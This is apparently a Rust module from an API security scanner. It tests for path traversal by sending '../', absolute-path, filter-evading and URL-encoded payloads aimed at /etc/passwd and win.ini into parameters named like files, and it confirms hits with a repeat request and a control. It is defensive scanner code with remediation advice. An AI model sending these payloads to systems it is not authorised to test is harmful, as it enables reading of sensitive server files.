//! Path traversal (local file inclusion): string slots named like a file, path, page, template,
//! language or date (all payloads), and a few other string query and path parameters (the two
//! plainest), get `../` sequences and absolute paths to well-known files. Proven by the file's
//! signature (`root:x:0:0:` of `/etc/passwd`, `; for 16-bit app support` of `win.ini`) in the answer,
//! twice, while the baseline and a control naming a file that does not exist show none.

use super::inband::{self, body};
use super::{Applies, Check, CheckMeta};
use crate::engine::{ScanContext, Target};
use crate::findings::{Confidence, Finding, RiskFactors, Severity};
use crate::spec::{ParamLocation, Schema};
use crate::synth::Slot;
use async_trait::async_trait;

/// The check.
pub struct PathTraversal;

static META: CheckMeta = CheckMeta {
    id: "NAT-INJ-PATH-TRAVERSAL",
    title: "Injection: path traversal (local file inclusion)",
    short_title: "Path traversal",
    owasp: "API8",
    cwe: "CWE-22",
    severity: Severity::High,
    confidence: Confidence::Certain,
    description: "Input names a file the server reads without being confined to a directory: a `../` \
                  sequence or an absolute path returned the contents of a system file (its signature, \
                  twice), while the same request for a file that does not exist did not.",
    remediation: "Never build file paths from input. Map input to a fixed set of files (an id or a \
                  name looked up in a list), or resolve the path and check that it stays inside the \
                  intended directory after normalisation; reject `..`, separators and absolute paths.",
};

/// Words that say a slot names something read from disk, when a word of its name (or of its
/// schema's title) starts with one: `filename`, `datestamp`, `templateName`, `lang`.
const HINTS: &[&str] = &[
    "file", "path", "dir", "folder", "date", "template", "tpl", "page", "doc", "lang", "locale",
    "include", "resource", "attach", "download",
];

/// Hints a word may also end with: `logfile`, `basepath`, `homepage`.
const SUFFIX_HINTS: &[&str] = &["file", "path", "dir", "template", "page"];

/// Other string query and path parameters probed with the plainest payloads, per operation.
const MAX_UNHINTED: usize = 3;

/// A well-known file nat asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum File {
    Passwd,
    WinIni,
}

impl File {
    fn name(self) -> &'static str {
        match self {
            File::Passwd => "/etc/passwd",
            File::WinIni => "C:\\Windows\\win.ini",
        }
    }

    /// What goes for `{f}` in a payload.
    fn leaf(self) -> &'static str {
        match self {
            File::Passwd => "passwd",
            File::WinIni => "win.ini",
        }
    }

    /// A file beside it that does not exist, for the control.
    fn missing(self, token: &str) -> String {
        match self {
            File::Passwd => format!("nat{token}"),
            File::WinIni => format!("nat{token}.ini"),
        }
    }

    /// The signature of the file's contents in `text`, if it is there (JSON-escaped too: it holds
    /// no character JSON escapes).
    fn signature(self, text: &str) -> Option<&'static str> {
        match self {
            File::Passwd => ["root:x:0:0:", "root:*:0:0:"]
                .into_iter()
                .find(|s| text.contains(s)),
            File::WinIni => {
                if text.contains("; for 16-bit app support") {
                    Some("; for 16-bit app support")
                } else if text.contains("[fonts]") && text.contains("[extensions]") {
                    Some("[fonts]")
                } else {
                    None
                }
            }
        }
    }
}

/// Payloads, `{f}` standing for the file's last name: plain `../` (past any root), absolute, doubled
/// for a filter removing `../` once, encoded for a server decoding twice, and Windows' forms.
const PAYLOADS: &[(File, &str)] = &[
    (File::Passwd, "../../../../../../../../etc/{f}"),
    (File::Passwd, "/etc/{f}"),
    (
        File::Passwd,
        "....//....//....//....//....//....//....//....//etc/{f}",
    ),
    (
        File::Passwd,
        "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2f{f}",
    ),
    (File::WinIni, "..\\..\\..\\..\\..\\..\\..\\..\\windows\\{f}"),
    (File::WinIni, "../../../../../../../../windows/{f}"),
];

/// How many of [`PAYLOADS`] a slot without a hint gets (plain and absolute).
const PLAIN: usize = 2;

/// The words of a name: split at anything but letters and digits and where a lowercase letter meets
/// an uppercase one (`templateName` is `template`, `name`), lowercased.
fn words(name: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut previous_lower = false;
    for c in name.chars() {
        if !c.is_alphanumeric() {
            out.push(String::new());
        } else if c.is_uppercase() && previous_lower {
            out.push(c.to_lowercase().collect());
        } else if let Some(last) = out.last_mut() {
            last.extend(c.to_lowercase());
        }
        previous_lower = c.is_lowercase() || c.is_ascii_digit();
    }
    out.retain(|w| !w.is_empty());
    out
}

/// True when the slot's name or its schema's title says it names a file-like thing (a word starting
/// with a hint, or the whole name `name`), or its schema's format is a date.
fn hinted(slot: &Slot, schema: Option<&Schema>) -> bool {
    let name = match slot {
        Slot::Param(_, name) | Slot::BodyField(name) => name.as_str(),
    };
    let from_schema = |key: &str| schema.and_then(|s| s.get(key)).and_then(Schema::as_str);
    let hinting = |text: &str| {
        text.eq_ignore_ascii_case("name")
            || words(text).iter().any(|w| {
                HINTS.iter().any(|h| w.starts_with(h))
                    || SUFFIX_HINTS.iter().any(|h| w.ends_with(h))
            })
    };
    hinting(name)
        || from_schema("title").is_some_and(hinting)
        || from_schema("format").is_some_and(|f| f.starts_with("date"))
}

/// The slots to probe with how many payloads each: every hinted string slot (all payloads), then at
/// most [`MAX_UNHINTED`] other string query or path parameters ([`PLAIN`]).
fn candidates(target: &Target<'_>) -> Vec<(Slot, usize)> {
    let slots = inband::string_slots(target);
    let mut out: Vec<(Slot, usize)> = slots
        .iter()
        .filter(|(slot, schema)| hinted(slot, *schema))
        .map(|(slot, _)| (slot.clone(), PAYLOADS.len()))
        .collect();
    let unhinted = slots
        .iter()
        .filter(|(slot, schema)| {
            !hinted(slot, *schema)
                && matches!(
                    slot,
                    Slot::Param(ParamLocation::Query | ParamLocation::Path, _)
                )
        })
        .take(MAX_UNHINTED)
        .map(|(slot, _)| (slot.clone(), PLAIN));
    out.extend(unhinted);
    out
}

/// The proof: the signature in the answer and in the same request's second answer, and in neither
/// the baseline nor the control. Returns the signature.
fn proven(
    file: File,
    baseline: &str,
    hit: &str,
    again: &str,
    control: &str,
) -> Option<&'static str> {
    let signature = file.signature(hit)?;
    (file.signature(again).is_some()
        && file.signature(baseline).is_none()
        && file.signature(control).is_none())
    .then_some(signature)
}

#[async_trait]
impl Check for PathTraversal {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn applies(&self, target: &Target<'_>) -> Applies {
        super::ensure(
            !candidates(target).is_empty(),
            "no string parameter or body field named like a file, path, page or date, nor a \
             string query or path parameter",
        )?;
        super::baseline_answered(target)
    }

    async fn run(&self, ctx: &ScanContext, target: &Target<'_>) -> Vec<Finding> {
        if !inband::may_inject(ctx, target, &META) {
            return vec![];
        }
        let baseline = body(target.baseline);
        let factors = RiskFactors {
            unauthenticated: false,
            state_changing: target.op.is_state_changing(),
        };
        let mut findings = Vec::new();
        'slots: for (slot, count) in candidates(target) {
            for (file, template) in &PAYLOADS[..count] {
                if ctx.should_stop() {
                    break 'slots;
                }
                let payload = template.replace("{f}", file.leaf());
                let hit = inband::send(ctx, target, &slot, &payload).await;
                if file.signature(&body(&hit)).is_none() {
                    continue;
                }
                let again = inband::send(ctx, target, &slot, &payload).await;
                let missing = template.replace("{f}", &file.missing(&inband::token()));
                let control = inband::send(ctx, target, &slot, &missing).await;
                if control.response.is_none() {
                    continue;
                }
                let Some(signature) = proven(
                    *file,
                    &baseline,
                    &body(&hit),
                    &body(&again),
                    &body(&control),
                ) else {
                    continue;
                };
                let labels = [
                    format!(
                        "1. `{payload}`: `{signature}` of {} in the answer",
                        file.name()
                    ),
                    "2. the same request again: the same file".to_string(),
                    format!(
                        "3. control, a file that does not exist (`{missing}`): no such signature"
                    ),
                ];
                findings.push(META.finding(
                    target,
                    META.severity,
                    &slot.describe(),
                    ctx.labelled_evidence(&[
                        (&labels[0], &hit),
                        (&labels[1], &again),
                        (&labels[2], &control),
                    ]),
                    factors,
                ));
                continue 'slots;
            }
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const PASSWD: &str = "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/usr/sbin/nologin\n";

    #[test]
    fn the_signature_twice_absent_from_baseline_and_control_proves_it() {
        // A JSON-encoded string keeps the signature (`\n` for the newlines).
        let json = serde_json::to_string(PASSWD).unwrap();
        assert_eq!(
            proven(
                File::Passwd,
                "\"1.08\"",
                &json,
                &json,
                "{\"detail\":\"no such file\"}"
            ),
            Some("root:x:0:0:")
        );
        let ini = "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n";
        assert_eq!(
            proven(File::WinIni, "", ini, ini, "not found"),
            Some("; for 16-bit app support")
        );
    }

    #[test]
    fn a_page_that_always_holds_the_signature_proves_nothing() {
        let page = format!("how to read {PASSWD}");
        assert_eq!(proven(File::Passwd, &page, &page, &page, &page), None);
        // The control (a file that does not exist) shows it too: not the file's contents.
        assert_eq!(proven(File::Passwd, "", PASSWD, PASSWD, PASSWD), None);
    }

    #[test]
    fn once_is_not_enough() {
        assert_eq!(proven(File::Passwd, "", PASSWD, "busy", ""), None);
        assert_eq!(proven(File::Passwd, "", "root:x:1000", "", ""), None);
        // `[fonts]` alone is any ini file, or any page about fonts.
        assert_eq!(File::WinIni.signature("[fonts]\nArial=1"), None);
    }

    #[test]
    fn slots_named_like_files_are_hinted() {
        let q = |n: &str| Slot::Param(ParamLocation::Query, n.into());
        for name in [
            "file",
            "filename",
            "path",
            "datestamp",
            "lang",
            "page",
            "templateName",
            "name",
            "log_file",
            "XMLFile",
            "basePath",
        ] {
            assert!(hinted(&q(name), None), "{name}");
        }
        // Not `update` for a date, not `redirect` for a directory, not any name for `name`.
        for name in [
            "q",
            "username",
            "last_name",
            "updated",
            "redirect",
            "candidate",
        ] {
            assert!(!hinted(&q(name), None), "{name}");
        }
        assert_eq!(words("templateName"), ["template", "name"]);
        assert_eq!(words("XMLFile"), ["xmlfile"]);
        let date = Schema::from(json!({"type": "string", "format": "date"}));
        assert!(hinted(&q("when"), Some(&date)));
        let titled = Schema::from(json!({"title": "Datestamp"}));
        assert!(hinted(&q("d"), Some(&titled)));
    }

    #[test]
    fn controls_name_a_missing_file_in_the_same_place() {
        let t = "abc12345";
        let (_, template) = PAYLOADS[3];
        assert_eq!(
            template.replace("{f}", &File::Passwd.missing(t)),
            "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fnatabc12345"
        );
        assert_eq!(File::WinIni.missing(t), "natabc12345.ini");
    }
}
